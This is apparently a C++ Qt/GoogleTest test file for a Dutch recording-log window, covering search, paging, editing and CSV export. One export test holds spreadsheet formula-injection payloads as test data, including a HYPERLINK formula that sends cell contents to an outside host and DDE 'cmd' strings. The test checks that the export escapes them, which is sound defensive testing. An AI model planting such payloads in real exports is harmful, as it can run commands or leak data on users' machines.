#include "base/RegionalText.h"
#include "control/LogExport.h"
#include "data/uData.h"
#include "support/SqlHelpers.h"
#include "ui/DialogTestKit.h"
#include "ui/ListingGrid.h"
#include "ui/uLog.h"

#include <QCheckBox>
#include <QDateEdit>
#include <QDesktopServices>
#include <QDir>
#include <QFileDialog>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QLabel>
#include <QLineEdit>
#include <QMessageBox>
#include <QProcess>
#include <QPushButton>
#include <QTableView>
#include <QTimer>
#include <QUrl>
#include <gtest/gtest.h>

namespace {

// Stands in for the desktop's file manager: keeps the addresses it is asked to open.
class TUrlCatcher : public QObject {
    Q_OBJECT
public:
    QList<QUrl> Opened;

public slots:
    void Open(const QUrl& Url) { Opened << Url; }
};

class LogFindTest : public DatabaseTest {
protected:
    struct TRow {
        const char* Moment;
        QString Title;
        QString Persons;
        const char* Preset = "MP3 128 Kbit Stereo";
        const char* FileName = "x.mp3";
    };

    int32_t Log(const TRow& Row) {
        TPreset P;
        P.Name = Row.Preset;
        const QDateTime At = QDateTime::fromString(Row.Moment, "yyyy-MM-dd HH:mm:ss");
        const int32_t Id =
            Data->LogRecording(P, At, 1, Row.FileName, QString("/opnames/") + Row.FileName);
        Data->UpdateRecordingMeta(Id, Row.Title, Row.Persons);
        return Id;
    }

    // The rows of the CSV file at Path as Python's csv module reads them (strictly).
    static QJsonArray ReadCsv(const QString& Path) {
        QProcess Python;
        Python.start("python3", {"-c",
                                 "import csv, json, sys\n"
                                 "with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
                                 "    print(json.dumps(list(csv.reader(f, strict=True))))",
                                 Path});
        EXPECT_TRUE(Python.waitForFinished(30000));
        EXPECT_EQ(Python.exitCode(), 0) << Python.readAllStandardError().toStdString();
        return QJsonDocument::fromJson(Python.readAllStandardOutput()).array();
    }

    // Count recordings, one a minute from 2026-02-01 00:00 on, titled "Reeks <n>".
    void LogMany(int Count) {
        QSqlQuery(Data->Connection())
            .exec(QString("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n WHERE "
                          "i<%1) INSERT INTO recordings(rec_dt,rec_date,rec_hour,rec_number,"
                          "title,persons,filepath) SELECT strftime('%Y-%m-%d %H:%M:%S', "
                          "'2026-02-01', '+' || (i-1) || ' minutes'),'2026-02-01',0,1,"
                          "'Reeks ' || i,'','/opnames/' || i || '.mp3' FROM n")
                      .arg(Count));
    }

    template <class T> static T* Child(TfrmLog& Window, const char* Name) {
        return Window.findChild<T*>(Name);
    }
    static QTableView* Grid(TfrmLog& Window) { return Child<QTableView>(Window, "grd"); }

    // Fills in the find fields as the operator would and waits until the listing is read.
    static void Find(TfrmLog& Window, const QString& Text, QDate From = {}, QDate To = {}) {
        Child<QCheckBox>(Window, "chkAllDates")->setChecked(!From.isValid());
        if (From.isValid()) {
            Child<QDateEdit>(Window, "dteFrom")->setDate(From);
            Child<QDateEdit>(Window, "dteTo")->setDate(To);
        }
        Child<QLineEdit>(Window, "edtFind")->setText(Text);
        const QTimer* Delay = Child<QTimer>(Window, "tmrFind");
        EXPECT_TRUE(QTest::qWaitFor([Delay] { return !Delay->isActive(); }));
    }

    // The ids of every row the listing has, top to bottom, reading it to the end.
    static QList<int32_t> ListedIds(TfrmLog& Window) {
        QAbstractItemModel* Model = Grid(Window)->model();
        while (Model->canFetchMore({}))
            Model->fetchMore({});
        QList<int32_t> Ids;
        for (int Row = 0; Row < Model->rowCount(); ++Row)
            Ids << Model->index(Row, 0).data().toInt();
        return Ids;
    }

    QString Stored(int32_t Id, const char* Column) {
        return SqlRows(Data->Connection(),
                       QString("SELECT %1 FROM recordings WHERE id=%2").arg(Column).arg(Id))
            .value(0)
            .value(0);
    }
};

} // namespace

TEST_F(LogFindTest, DaysAndTextNarrowTheListingToExactlyTheMatchingRecordings) {
    const int32_t Rock = Log({"2026-01-04 23:59:59", "Rock 'n' roll", "Anna"});
    const int32_t Percent = Log({"2026-01-05 00:00:00", "100% live", "Bert"});
    const int32_t Underscore = Log({"2026-01-05 12:00:00", "snake_case uur", "Carla"});
    const int32_t Accented = Log({"2026-01-05 23:59:59", "Nieuws", "Émile Zola"});
    const int32_t Wav =
        Log({"2026-01-06 00:00:00", "", "", "WAV 44 kHz Stereo", "06012026001.wav"});
    const int32_t Thousand = Log({"2026-01-06 08:00:00", "1000 live", "dirk"});
    const QDate Jan5(2026, 1, 5), Jan6(2026, 1, 6);
    struct Case {
        QString Text;
        QDate From, To;
        QList<int32_t> Ids;
        QString Count;
    };
    const Case Cases[] = {
        {"", {}, {}, {Thousand, Wav, Accented, Underscore, Percent, Rock}, "6 opnamen"},
        {"%", {}, {}, {Percent}, "1 opname"},
        {"100%", {}, {}, {Percent}, "1 opname"},
        {"_", {}, {}, {Underscore}, "1 opname"},
        {"'n'", {}, {}, {Rock}, "1 opname"},
        {"\\", {}, {}, {}, "0 opnamen"},
        {"ROCK", {}, {}, {Rock}, "1 opname"},
        {"émile", {}, {}, {Accented}, "1 opname"},
        {"ÉMILE ZOLA", {}, {}, {Accented}, "1 opname"},
        {"bert", {}, {}, {Percent}, "1 opname"},
        {"wav 44", {}, {}, {Wav}, "1 opname"},
        {"06012026", {}, {}, {Wav}, "1 opname"},
        {"live", {}, {}, {Thousand, Percent}, "2 opnamen"},
        {"", Jan5, Jan5, {Accented, Underscore, Percent}, "3 opnamen"},
        {"", Jan6, Jan6, {Thousand, Wav}, "2 opnamen"},
        {"live", Jan5, Jan6, {Thousand, Percent}, "2 opnamen"},
        {"", Jan6, Jan5, {}, "0 opnamen"},
    };
    TfrmLog Window(Data.get());
    for (const Case& C : Cases) {
        SCOPED_TRACE(QString("'%1' %2..%3")
                         .arg(C.Text, C.From.toString(Qt::ISODate), C.To.toString(Qt::ISODate))
                         .toStdString());
        Find(Window, C.Text, C.From, C.To);
        EXPECT_EQ(ListedIds(Window), C.Ids);
        EXPECT_EQ(Child<QLabel>(Window, "lblCount")->text(), C.Count);
        EXPECT_EQ(Grid(Window)->currentIndex().row(), C.Ids.isEmpty() ? -1 : 0);
    }
}

TEST_F(LogFindTest, TheDatesCountOnlyWhileAllDatesIsOff) {
    Log({"2025-06-01 10:00:00", "Vorig jaar", ""});
    TfrmLog Window(Data.get());
    EXPECT_TRUE(Child<QCheckBox>(Window, "chkAllDates")->isChecked());
    EXPECT_FALSE(Child<QDateEdit>(Window, "dteFrom")->isEnabled());
    EXPECT_TRUE(Child<QDateEdit>(Window, "dteFrom")->calendarPopup());
    EXPECT_EQ(Child<QLabel>(Window, "lblCount")->text(), "1 opname");

    Find(Window, "", QDate(2026, 1, 1), QDate(2026, 12, 31));
    EXPECT_TRUE(Child<QDateEdit>(Window, "dteTo")->isEnabled());
    EXPECT_EQ(Child<QLabel>(Window, "lblCount")->text(), "0 opnamen");
    Find(Window, "");
    EXPECT_EQ(Child<QLabel>(Window, "lblCount")->text(), "1 opname");
}

TEST_F(LogFindTest, SavingARowOfANarrowedListingWritesThatRecording) {
    const int32_t Morning = Log({"2026-01-05 08:00:00", "Ochtend live", ""});
    const int32_t Other = Log({"2026-01-05 09:00:00", "Muziek", ""});
    const int32_t Evening = Log({"2026-01-05 20:00:00", "Avond live", ""});
    TfrmLog Window(Data.get());
    Find(Window, "live");
    Grid(Window)->setCurrentIndex(Grid(Window)->model()->index(1, 0));
    Child<QLineEdit>(Window, "edtTitle")->setText("Ochtend live, herhaling");
    Child<QLineEdit>(Window, "edtPersons")->setText("Anna");
    QTest::mouseClick(Child<QPushButton>(Window, "btnSave"), Qt::LeftButton);
    EXPECT_EQ(Stored(Morning, "title"), "Ochtend live, herhaling");
    EXPECT_EQ(Stored(Morning, "persons"), "Anna");
    EXPECT_EQ(Stored(Evening, "title"), "Avond live");
    EXPECT_EQ(Stored(Other, "title"), "Muziek");
    EXPECT_EQ(ListedIds(Window), (QList<int32_t>{Evening, Morning}));
    EXPECT_EQ(Grid(Window)->currentIndex().row(), 1);

    // A title that no longer matches takes its row out of the listing.
    Child<QLineEdit>(Window, "edtTitle")->setText("Ochtend");
    Window.btnSaveClick();
    EXPECT_EQ(Stored(Morning, "title"), "Ochtend");
    EXPECT_EQ(ListedIds(Window), (QList<int32_t>{Evening}));
    EXPECT_EQ(Child<QLabel>(Window, "lblCount")->text(), "1 opname");
}

TEST_F(LogFindTest, OpeningALongLogReadsOnlyItsFirstPage) {
    LogMany(5000);
    TfrmLog Window(Data.get());
    Window.show();
    ASSERT_TRUE(QTest::qWaitForWindowExposed(&Window));
    QAbstractItemModel* Model = Grid(Window)->model();
    EXPECT_EQ(Model->rowCount(), TListing::PageSize);
    EXPECT_TRUE(Model->canFetchMore({}));
    EXPECT_EQ(Child<QLabel>(Window, "lblCount")->text(), GroupedNumber(5000) + " opnamen");
    EXPECT_EQ(Model->index(0, 6).data().toString(), "Reeks 5000");

    // Scrolling to the end reads the next page, which goes on where the first stopped.
    Grid(Window)->scrollToBottom();
    QApplication::processEvents();
    EXPECT_EQ(Model->rowCount(), 2 * TListing::PageSize);
    EXPECT_EQ(Model->index(TListing::PageSize, 6).data().toString(),
              QString("Reeks %1").arg(5000 - TListing::PageSize));
}

TEST_F(LogFindTest, SavingARowFarDownKeepsItCurrentAndTheRowsAboveIt) {
    LogMany(700);
    TfrmLog Window(Data.get());
    QAbstractItemModel* Model = Grid(Window)->model();
    while (Model->rowCount() < 600)
        Model->fetchMore({});
    Grid(Window)->setCurrentIndex(Model->index(650, 0));
    const int32_t Id = Model->index(650, 0).data().toInt();
    Child<QLineEdit>(Window, "edtTitle")->setText("Gevonden");
    Window.btnSaveClick();
    EXPECT_EQ(Stored(Id, "title"), "Gevonden");
    EXPECT_EQ(Grid(Window)->currentIndex().row(), 650);
    EXPECT_EQ(Model->index(650, 0).data().toInt(), Id);
    EXPECT_EQ(Model->index(650, 6).data().toString(), "Gevonden");
}

TEST_F(LogFindTest, ExportWritesEveryMatchingRowAsCsvThatPythonReadsBack) {
    LogMany(300);
    const QString Tricky = "Gesprek, \"live\"\nmet \"quotes\"; tweede regel";
    const int32_t Id = Log({"2026-03-01 14:05:09", Tricky, "Zoë, Bert", "OPUS 64", "a,b.opus"});
    Log({"2026-03-02 10:00:00", "Niet gezocht", ""});
    TfrmLog Window(Data.get());
    Find(Window, "ee");
    ASSERT_LT(Grid(Window)->model()->rowCount(), 301);

    auto Watch = WhenModal<QFileDialog>([this](QFileDialog* Browser) {
        EXPECT_EQ(Browser->acceptMode(), QFileDialog::AcceptSave);
        EXPECT_EQ(QFileInfo(Browser->selectedFiles().value(0)).fileName(), "opnamen.csv");
        // Typed without its extension, which the browser adds.
        Browser->findChild<QLineEdit*>("fileNameEdit")->setText(Dir.filePath("uitvoer"));
        static_cast<QDialog*>(Browser)->accept();
    });
    QTest::mouseClick(Child<QPushButton>(Window, "btnExport"), Qt::LeftButton);

    const QJsonArray Rows = ReadCsv(Dir.filePath("uitvoer.csv"));
    ASSERT_EQ(Rows.size(), 1 + 300 + 1);
    EXPECT_EQ(Rows[0].toVariant().toStringList(),
              (QStringList{"id", "Datum/tijd", "Uur", "Nr", "Formaat", "Preset", "Titel",
                           "Personen", "Duur(s)", "filepath"}));
    EXPECT_EQ(Rows[1].toVariant().toStringList(),
              (QStringList{QString::number(Id), "2026-03-01T14:05:09", "14", "1",
                           FormatToStr(TPreset().Format), "OPUS 64", Tricky, "Zoë, Bert", "0",
                           "/opnames/a,b.opus"}));
    // The rows the grid never read are there too, newest first, to the oldest.
    EXPECT_EQ(Rows[2].toArray()[6].toString(), "Reeks 300");
    EXPECT_EQ(Rows[301].toArray()[1].toString(), "2026-02-01T00:00:00");
    EXPECT_EQ(Rows[301].toArray()[6].toString(), "Reeks 1");
}

// A title or a name that a spreadsheet program would take for a formula (and run) is written
// with a single quote in front, inside the quotes, so that it opens as the text it is.
TEST_F(LogFindTest, ExportWritesFormulaLikeFieldsAsText) {
    const struct {
        QString Stored;
        QString Exported;
    } Cases[] = {
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
         "'=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"},
        {"+31 20 555 0100", "'+31 20 555 0100"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
        {"\t=1+1", "'\t=1+1"},
        {"\r=1+1", "'\r=1+1"},
        {"Nieuws = 1+1", "Nieuws = 1+1"},
        {"'Aanhalingsteken'", "'Aanhalingsteken'"},
        {"", ""},
    };
    int Minute = 0;
    for (const auto& C : Cases)
        Log({qPrintable(QString("2026-03-01 14:%1:00").arg(Minute++, 2, 10, QChar('0'))), C.Stored,
             C.Stored});
    const QString Path = Dir.filePath("uitvoer.csv");
    ExportLogCsv(*Data, TLogFilter(), Path);

    const QJsonArray Rows = ReadCsv(Path);
    ASSERT_EQ(Rows.size(), 1 + int(std::size(Cases)));
    // Newest first: the last case on the first line.
    for (int I = 0; I < int(std::size(Cases)); ++I) {
        const QJsonArray Row = Rows[int(std::size(Cases)) - I].toArray();
        EXPECT_EQ(Row[6].toString(), Cases[I].Exported) << "Titel " << I;
        EXPECT_EQ(Row[7].toString(), Cases[I].Exported) << "Personen " << I;
    }
    QFile Raw(Path);
    ASSERT_TRUE(Raw.open(QIODevice::ReadOnly));
    EXPECT_TRUE(Raw.readAll().contains(",\"'+31 20 555 0100\",\"'+31 20 555 0100\","));
}

TEST_F(LogFindTest, AnExportThatCannotBeWrittenSaysWhyInDutch) {
    Log({"2026-03-01 14:00:00", "Iets", ""});
    TfrmLog Window(Data.get());
    // The folder chosen is gone by the time the file is written, as an unplugged disk would be.
    const QString Folder = Dir.filePath("stick");
    const QString Path = Folder + "/opnamen.csv";
    ASSERT_TRUE(QDir().mkpath(Folder));
    auto Browse = WhenModal<QFileDialog>([&Folder](QFileDialog* Browser) {
        Browser->setDirectory(Folder);
        Browser->selectFile("opnamen.csv");
        EXPECT_TRUE(QDir(Folder).removeRecursively());
        static_cast<QDialog*>(Browser)->accept();
    });
    QString Shown;
    auto Warn = WhenModal<QMessageBox>([&Shown](QMessageBox* Box) {
        Shown = Box->text();
        Box->accept();
    });
    Window.btnExportClick();
    EXPECT_EQ(Shown,
              "Het bestand " + Path + " kan niet worden geschreven: map of bestand bestaat niet");
    EXPECT_FALSE(QFile::exists(Path));
}

TEST_F(LogFindTest, MapOpenenShowsTheRecordingsFolderOrSaysItIsGone) {
    const QString Folder = Dir.filePath("2026/03/01");
    ASSERT_TRUE(QDir().mkpath(Folder));
    const QDateTime At(QDate(2026, 3, 1), QTime(14, 0));
    Data->LogRecording(TPreset(), At, 1, "a.mp3", Folder + "/a.mp3");
    Data->LogRecording(TPreset(), At.addSecs(3600), 1, "b.mp3", Dir.filePath("weg/b.mp3"));
    TUrlCatcher Catcher;
    QDesktopServices::setUrlHandler("file", &Catcher, "Open");
    TfrmLog Window(Data.get());

    Grid(Window)->setCurrentIndex(Grid(Window)->model()->index(1, 0));
    QTest::mouseClick(Child<QPushButton>(Window, "btnOpenFolder"), Qt::LeftButton);
    EXPECT_EQ(Catcher.Opened, QList<QUrl>{QUrl::fromLocalFile(Folder)});

    QString Shown;
    auto Warn = WhenModal<QMessageBox>([&Shown](QMessageBox* Box) {
        Shown = Box->text();
        Box->accept();
    });
    Grid(Window)->setCurrentIndex(Grid(Window)->model()->index(0, 0));
    QTest::mouseClick(Child<QPushButton>(Window, "btnOpenFolder"), Qt::LeftButton);
    EXPECT_EQ(Shown, "De map " + Dir.filePath("weg") + " bestaat niet (meer).");
    EXPECT_EQ(Catcher.Opened.size(), 1);
    QDesktopServices::unsetUrlHandler("file");
}

#include "LogFindTest.moc"
